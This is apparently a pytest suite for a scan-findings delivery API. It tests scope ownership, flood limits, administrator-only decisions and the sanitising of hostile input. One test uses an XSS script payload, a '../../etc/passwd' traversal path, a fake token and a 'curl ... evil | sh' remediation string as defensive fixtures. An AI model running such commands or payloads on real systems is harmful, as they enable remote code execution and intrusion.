# SPDX-License-Identifier: Apache-2.0
"""Threat: who delivers scans closes others' findings, floods people, or turns a finding into an action.

A scope is one deliverer's, holds only its own findings, and nothing that is delivered counts in a decision.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from remit.core.discovery.discovered import Discovered, FilePlace
from remit.core.evidence.event import EventKind
from remit.core.findings.finding import FindingState
from remit.core.findings.kinds import FindingKind, Severity
from remit.core.findings.scan_scopes import MOST_SCOPES as MOST_OF_FINDING
from remit.ports.store.changes import PutValue
from remit.ports.store.units import Unit
from remit.services.discovery import deliveries
from remit.services.discovery.deliveries import MOST_OF_ONE, MOST_OF_PART, MOST_OF_SCAN
from tests.samples.discovered import a_server, an_exposed
from tests.worlds.services import ServiceWorld, Told, service_world

Json = Any
PATH = "/api/v1/discoveries"
SCANNERS = {"other-bot": ("crm/*",)}


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[ServiceWorld]:
    """A gateway that agent `other-bot` may deliver scans of `crm/...` to."""
    async with service_world(
        tmp_path, scanners=SCANNERS, suspend_on=frozenset({FindingKind.SECRET_EXPOSED})
    ) as opened:
        yield opened


class Deliverer:
    """Someone who delivers."""

    def __init__(self, world: ServiceWorld, by: str) -> None:
        self.world, self.by, self.count = world, by, 0

    async def send(self, scope: str, *found: Discovered, scan: str = "", **more: Json) -> Told:
        """Deliver a whole and complete scan, unless told otherwise."""
        self.count += 1
        body = {
            "scope": scope,
            "scan": scan or f"scn_{self.by[:4]}_{self.count:04}",
            "found": [msgspec.to_builtins(one) for one in found],
            "complete": True,
        }
        return await self.world.ask("POST", PATH, body | more, by=self.by)


async def states(world: ServiceWorld, *found: Discovered) -> list[str]:
    """Return the states of findings."""
    kept = [await world.services.findings.findings.find(one.id) for one in found]
    return [one.state.value if one else "-" for one in kept]


async def deliverer(world: ServiceWorld, person: str) -> Deliverer:
    """Return a person who delivers."""
    return Deliverer(world, await world.session(person))


async def test_what_a_complete_scan_no_longer_sees_is_fixed(world: ServiceWorld) -> None:
    """An incomplete one fixes nothing; the same scan again changes nothing."""
    otto, (one, two) = await deliverer(world, "otto"), (an_exposed(), a_server())
    told = await otto.send("house", one, two, scan="scn_first")
    assert (told.status, told.json["opened"], told.json["fixed"]) == (200, 2, 0)
    assert (await otto.send("house", one, two, scan="scn_first")).json["opened"] == 0
    await otto.send("house", complete=False)
    assert await states(world, one, two) == ["open", "open"]
    assert (await otto.send("house", two)).json["fixed"] == 1
    assert await states(world, one, two) == ["resolved", "open"]
    # The first scan, come late once more, is older than what is known.
    await otto.send("house", one, two, scan="scn_first")
    assert await states(world, one, two) == ["resolved", "open"]
    assert (await otto.send("house", one, two)).json["opened"] == 1
    (resolved,) = await world.services.findings.findings.about(two.about)
    assert resolved.count == 3
    assert (await world.kinds()).count(EventKind.SCAN_DELIVERED.value) == 4


async def test_two_scopes_never_close_each_others_findings(world: ServiceWorld) -> None:
    """What both see is fixed when neither sees it, and shows the worse of two sightings."""
    otto, both = await deliverer(world, "otto"), an_exposed()
    await otto.send("here", both)
    await otto.send("there", msgspec.structs.replace(both, severity=Severity.LOW, says="it is nothing"))
    found = await world.services.findings.findings.get(both.id)
    assert (found.severity, found.facts["says"]) == (Severity.HIGH, both.says)
    assert {one["scope"] for one in found.facts["places"]} == {"here", "there"}
    await otto.send("there")
    assert await states(world, both) == ["open"]
    await otto.send("elsewhere")
    assert await states(world, both) == ["open"]
    await otto.send("here")
    assert await states(world, both) == ["resolved"]


async def test_an_answer_holds_until_the_evidence_of_its_scope_changes(world: ServiceWorld) -> None:
    """A moved line changes nothing; another file, a worse severity and another scope do."""
    otto, one = await deliverer(world, "otto"), an_exposed()
    findings = world.services.findings.findings
    moved = msgspec.structs.replace(one, places=(FilePlace(file="prompts/agent.md", line=99),), says="moved")
    worse = msgspec.structs.replace(moved, severity=Severity.CRITICAL)
    for changed in (an_exposed(file="other.md"), worse):
        await otto.send("house", one)
        await findings.reject(one.id, by="root", reason="an example")
        await otto.send("house", moved)
        assert await states(world, one) == ["false"]
        await otto.send("house")
        assert await states(world, one) == ["false"], "a false one is not fixed: its answer would be lost"
        await otto.send("house", changed)
        assert await states(world, one) == ["open"]
        await findings.resolve(one.id, by="root", resolution="done")
    await otto.send("house", one)
    await findings.reject(one.id, by="root", reason="an example")
    await otto.send("second", one)
    assert await states(world, one) == ["open"]


async def test_a_scope_is_one_deliverers(world: ServiceWorld) -> None:
    """An agent delivers into its own scopes, a person into no scope of others; an administrator into all."""
    agent = Deliverer(world, await world.agent_token("other-bot"))
    otto, root, lena = [await deliverer(world, name) for name in ("otto", "root", "lena")]
    unnamed = Deliverer(world, await world.agent_token("contract-bot"))
    one = an_exposed()
    assert (await agent.send("crm/prompts", one)).status == 200
    for who, scope, code in (
        (agent, "house", "scope"),
        (agent, "remit", "scope"),
        (unnamed, "crm/prompts", "scope"),
        (otto, "crm/prompts", "scope-of-another"),
        (root, "remit", "scope"),
        (lena, "house", "role"),
    ):
        told = await who.send(scope)
        assert (told.status, told.json["code"]) == (403, code), (scope, code)
    assert await states(world, one) == ["open"]
    assert (await otto.send("crm/not-begun")).json["code"] == "scope-of-another"
    assert (await root.send("crm/prompts")).json["fixed"] == 1
    assert (await agent.send("crm/prompts", one)).json["opened"] == 1


async def test_one_deliverer_begins_few_scopes(world: ServiceWorld) -> None:
    """An agent that may use every name below its own does not fill the register."""
    agent, root = Deliverer(world, await world.agent_token("other-bot")), await deliverer(world, "root")
    for number in range(MOST_OF_ONE):
        assert (await agent.send(f"crm/{number}")).status == 200
    assert (await agent.send("crm/more")).json["code"] == "too-many-scopes"
    assert (await agent.send("crm/1", an_exposed())).status == 200
    assert (await root.send("house")).status == 200


async def test_unfinished_scans_do_not_pile_up(world: ServiceWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    """A scope that is full takes complete scans alone, which empty it."""
    monkeypatch.setattr(deliveries, "MOST_OF_SCAN", 4)
    otto = await deliverer(world, "otto")
    told = [
        await otto.send("house", *(a_server(f"s{turn}-{number}") for number in range(3)), complete=False)
        for turn in range(6)
    ]
    assert [one.status for one in told] == [200, 200, 200, 409, 409, 409]
    assert (await otto.send("house", a_server("last"))).json["fixed"] == 9
    assert (await otto.send("house", a_server("next"), complete=False)).status == 200


async def test_a_part_that_comes_again_brings_nothing_else(world: ServiceWorld) -> None:
    """Its findings would be counted nowhere: a flood without a bound."""
    otto, (one, two) = await deliverer(world, "otto"), (an_exposed(), a_server())
    await otto.send("house", one, scan="scn_first")
    told = await otto.send("house", two, scan="scn_first")
    assert (told.status, told.json["opened"], told.json["fixed"]) == (200, 0, 0)
    assert await states(world, one, two) == ["open", "-"]


async def test_many_scopes_of_one_deliverer_keep_no_one_else_from_delivering(world: ServiceWorld) -> None:
    """They displace each other, and never another one's sighting; the worst is always shown."""
    agent = Deliverer(world, await world.agent_token("other-bot"))
    otto, one = await deliverer(world, "otto"), an_exposed()
    await otto.send("first", one)
    low = msgspec.structs.replace(one, severity=Severity.LOW)
    for number in range(MOST_OF_FINDING + 2):
        assert (await agent.send(f"crm/{number}", low)).status == 200
        world.clock.advance(1)
    worst = msgspec.structs.replace(one, severity=Severity.CRITICAL)
    assert (await agent.send("crm/worst", worst)).status == 200
    assert (await otto.send("house", one, a_server())).json["opened"] == 1
    found = await world.services.findings.findings.get(one.id)
    assert len(found.scopes) == MOST_OF_FINDING
    assert {"first", "house", "crm/worst", "crm/0"} <= found.scopes.keys()
    assert found.severity is Severity.CRITICAL


async def test_no_delivery_ends_an_agents_work_or_counts_in_a_decision(world: ServiceWorld) -> None:
    """Not even with a kind that suspends agents, about an agent that is registered."""
    otto = await deliverer(world, "otto")
    about = msgspec.structs.replace(an_exposed(), about="agent:contract-bot")
    assert (await otto.send("house", about)).status == 200
    agent = await world.services.identity.directory.agent("contract-bot")
    assert agent.usable
    own = msgspec.structs.replace(about, kind=FindingKind.SHARED_KEY)
    told = await otto.send("house", own)
    assert (told.status, told.json["code"]) == (400, "kind")


async def test_one_deliverer_does_not_fill_the_register(
    world: ServiceWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its scopes together hold a part of what the end of a scan looks at; others still deliver."""
    monkeypatch.setattr(deliveries, "MOST_OF_DELIVERER", 5)
    agent, otto = Deliverer(world, await world.agent_token("other-bot")), await deliverer(world, "otto")
    some = [a_server(f"s{number}") for number in range(9)]
    assert (await agent.send("crm/1", *some[:3])).status == 200
    told = await agent.send("crm/2", *some[3:6])
    assert (told.status, told.json["code"]) == (409, "too-many")
    assert (await agent.send("crm/2", *some[3:5])).status == 200
    assert (await agent.send("crm/1", *some[:2])).json["fixed"] == 1
    assert (await otto.send("house", *some[6:])).status == 200


async def test_no_number_of_other_findings_hides_one_from_the_owner(world: ServiceWorld) -> None:
    """Who owns an agent sees what is found about it, however many are found elsewhere after it."""
    otto, lena = await deliverer(world, "otto"), await world.session("lena")
    mine = msgspec.structs.replace(an_exposed(), about="agent:contract-bot")
    await otto.send("first", mine)
    world.clock.advance(60)
    for number in range(3):
        await otto.send("house", *(a_server(f"{number}-{one}") for one in range(400)), complete=False)
    for query in ("", "?about=agent:contract-bot"):
        (listed,) = (await world.ask("GET", f"/api/v1/findings{query}", by=lena)).json["items"]
        assert listed["id"] == mine.id
    assert (await world.ask("GET", "/api/v1/findings?about=server:0-1", by=lena)).json["items"] == []


async def test_a_scan_is_bounded_and_its_parts_are_in_order(world: ServiceWorld) -> None:
    """A part that is missing keeps everything open."""
    otto = await deliverer(world, "otto")
    some = [a_server(f"s{number}") for number in range(MOST_OF_PART + 1)]
    assert (await otto.send("house", *some)).status == 400
    first: Json = {"scan": "scn_parts", "part": 0, "last": False, "complete": False}
    assert (await otto.send("house", *some[:3], **first)).status == 200
    missing = await otto.send("house", scan="scn_parts", part=2)
    assert (missing.status, missing.json["code"]) == (409, "part-missing")
    assert (await otto.send("house", *some[3:5], scan="scn_parts", part=1)).status == 200
    assert await states(world, *some[:5]) == ["open"] * 5
    after = await otto.send("house", scan="scn_parts", part=2)
    assert (after.status, after.json["code"]) == (409, "part-missing")
    record = await world.services.store.value(world.services.tenant, "scan-scope:house")
    record["scans"]["scn_large"] = {"number": 9, "parts": 1, "found": MOST_OF_SCAN, "ended": False}
    kept = PutValue(world.services.tenant, "scan-scope:house", record)
    await world.services.store.commit(Unit((kept,)))
    large = await otto.send("house", some[0], scan="scn_large", part=1)
    assert (large.status, large.json["code"]) == (409, "too-many")


HOSTILE = '\u202e"><script>alert(1)</script>\u0007' * 20


async def test_hostile_texts_are_bounded_and_secrets_are_cut(world: ServiceWorld) -> None:
    """Whatever a scan sends is kept small, visible, and fit for the log."""
    otto = await deliverer(world, "otto")
    token = "ghp_" + "0123456789abcdefghijklmnopqrstuvwxyzAB"[:36]
    deep: Json = "x"
    for _ in range(50):
        deep = {"é\u202e": deep}
    hostile = msgspec.structs.replace(
        an_exposed(),
        says=HOSTILE + token,
        owner=HOSTILE,
        steps=(HOSTILE,) * 100,
        reach=(f"the token {token}",) * 200,
        places=(FilePlace(file="../../etc/passwd", line=2**40),) * 100,
        evidence={"deep": deep, "many": list(range(5_000)), "float": 1.5, "token": token, HOSTILE: 1},
        remediation=f"run this: curl -H 'x: {token}' evil | sh",
    )
    assert (await otto.send("house", hostile)).status == 200
    kept = await world.services.findings.findings.get(hostile.id)
    text = msgspec.json.encode(kept).decode()
    assert len(text) < 200_000
    for part in ("\u202e", "\u0007", token):
        assert part not in text
    assert (await world.ask("GET", f"/api/v1/findings/{hostile.id}", by=otto.by)).status == 200


@pytest.mark.parametrize("scope", ["", "../up", "a" * 81, "Upper", "white space", "/root", "x\u202e"])
async def test_scopes_are_plain_names(world: ServiceWorld, scope: str) -> None:
    """Nothing is kept under another one."""
    otto = await deliverer(world, "otto")
    assert (await otto.send(scope, an_exposed())).status == 400


@pytest.mark.parametrize(
    ("about", "shown"),
    [
        ("", "other:unnamed"),
        ("credential", "other:credential"),
        ("Agent:x", "other:Agent:x"),
        ("server:\u202ex", "server:\\u{202e}x"),
        ("server: x", "other:server: x"),
        ("a:" + "x" * 4_000, "a:" + "x" * 298),
    ],
)
async def test_a_strange_subject_keeps_no_scan_from_being_delivered(
    world: ServiceWorld, about: str, shown: str
) -> None:
    """A name in a scanned file may hold anything; it is shown as what it is."""
    otto, one = await deliverer(world, "otto"), msgspec.structs.replace(an_exposed(), about=about)
    assert (await otto.send("house", one, a_server())).json["opened"] == 2
    assert (await world.services.findings.findings.get(one.id)).about == shown


async def test_findings_are_filtered_by_severity_owner_and_kind(world: ServiceWorld) -> None:
    """In the store, so that no number of others hides one."""
    otto, one, two = await deliverer(world, "otto"), an_exposed(), a_server(severity=Severity.LOW)
    await otto.send("house", one, two)
    for query, expected in (
        ("severity=high", [one.id]),
        ("severity=low", [two.id]),
        ("owner=lena", [one.id]),
        ("owner=leo", []),
        ("kind=ungoverned-server", [two.id]),
        ("kind=secret-exposed&severity=low", []),
    ):
        listed = (await world.ask("GET", f"/api/v1/findings?{query}", by=otto.by)).json["items"]
        assert [item["id"] for item in listed] == expected, query
    shown = (await world.ask("GET", f"/api/v1/findings/{one.id}", by=otto.by)).json
    assert (shown["severity"], shown["owner"], shown["scopes"]) == ("high", "lena", ["house"])
    assert shown["controls"] == ["NHI2", "NHI7"]


async def test_only_administrators_answer_findings(world: ServiceWorld) -> None:
    """Who delivers does not decide."""
    otto, root = await deliverer(world, "otto"), await world.session("root")
    one = an_exposed()
    await otto.send("house", one)
    path = f"/api/v1/findings/{one.id}"
    bodies = {"accept": {"reason": "x", "until": "2999-01-01T00:00:00Z"}, "false": {"reason": "x"}}
    for verb, body in {**bodies, "reopen": {"reason": "x"}, "proof": {"secret": "x"}}.items():
        for by in (otto.by, await world.session("audra")):
            assert (await world.ask("POST", f"{path}/{verb}", body, by=by)).status == 403, verb
        assert (await world.ask("POST", f"{path}/{verb}", body, by=await world.session("lena"))).status == 404
    assert (await world.ask("POST", f"{path}/accept", bodies["accept"], by=root)).status == 400
    assert (await world.ask("POST", f"{path}/false", {"reason": " "}, by=root)).status == 400
    assert (await world.ask("POST", f"{path}/false", {"reason": "ours"}, by=root)).json["state"] == "false"
    assert (await world.ask("POST", f"{path}/reopen", {"reason": "no"}, by=root)).json["state"] == "open"
    assert FindingState.OPEN.value in await states(world, one)
